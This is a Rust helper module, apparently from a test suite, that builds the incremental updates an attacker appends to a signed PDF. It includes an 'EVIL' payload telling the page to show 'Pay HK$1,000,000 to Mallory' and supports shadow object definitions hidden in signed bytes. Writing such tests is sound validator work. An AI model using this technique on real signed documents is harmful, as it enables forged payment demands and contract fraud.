//! Incremental updates written by hand, as an attacker writes them after a signature.
use lopdf::Document;

/// Text that an attacker wants a signed page to show.
pub const EVIL: &str = "BT /F1 24 Tf 72 720 Td (Pay HK$1,000,000 to Mallory) Tj ET";

/// What an update does to one object.
pub enum Def {
    /// A new body for the object.
    Body(Vec<u8>),
    /// Its definition is at this offset of the file already (a "shadow" hidden in signed bytes).
    At(usize),
    /// Freed.
    Free,
}

/// Appends an incremental update with a classic cross-reference table.
pub fn append_update(pdf: &[u8], defs: &[(u32, Def)]) -> Vec<u8> {
    let doc = Document::load_mem(pdf).unwrap();
    let root = doc.trailer.get(b"Root").unwrap().as_reference().unwrap();
    let size = defs
        .iter()
        .map(|(n, _)| i64::from(*n) + 1)
        .chain([doc.trailer.get(b"Size").unwrap().as_i64().unwrap()])
        .max()
        .unwrap();
    let prev = {
        let at = pdf.windows(9).rposition(|w| w == b"startxref").unwrap() + 9;
        let text = std::str::from_utf8(&pdf[at..]).unwrap();
        text.split_whitespace()
            .next()
            .unwrap()
            .parse::<usize>()
            .unwrap()
    };
    let mut out = pdf.to_vec();
    if !out.ends_with(b"\n") {
        out.push(b'\n');
    }
    let mut entries = Vec::new();
    for (n, def) in defs {
        match def {
            Def::Body(body) => {
                entries.push((*n, format!("{:010} 00000 n\r\n", out.len())));
                out.extend_from_slice(format!("{n} 0 obj\n").as_bytes());
                out.extend_from_slice(body);
                out.extend_from_slice(b"\nendobj\n");
            }
            Def::At(offset) => entries.push((*n, format!("{offset:010} 00000 n\r\n"))),
            Def::Free => entries.push((*n, "0000000000 00001 f\r\n".to_string())),
        }
    }
    let xref = out.len();
    out.extend_from_slice(b"xref\n");
    for (n, line) in &entries {
        out.extend_from_slice(format!("{n} 1\n{line}").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {size} /Root {} {} R /Prev {prev} >>\nstartxref\n{xref}\n%%EOF\n",
            root.0, root.1
        )
        .as_bytes(),
    );
    out
}

pub fn stream(text: &str) -> Vec<u8> {
    format!("<< /Length {} >>\nstream\n{text}\nendstream", text.len()).into_bytes()
}

/// The object number of page 1's (first) content stream.
pub fn content_of_page_one(pdf: &[u8]) -> u32 {
    let doc = Document::load_mem(pdf).unwrap();
    let page = *doc.get_pages().get(&1).unwrap();
    doc.get_page_contents(page)[0].0
}
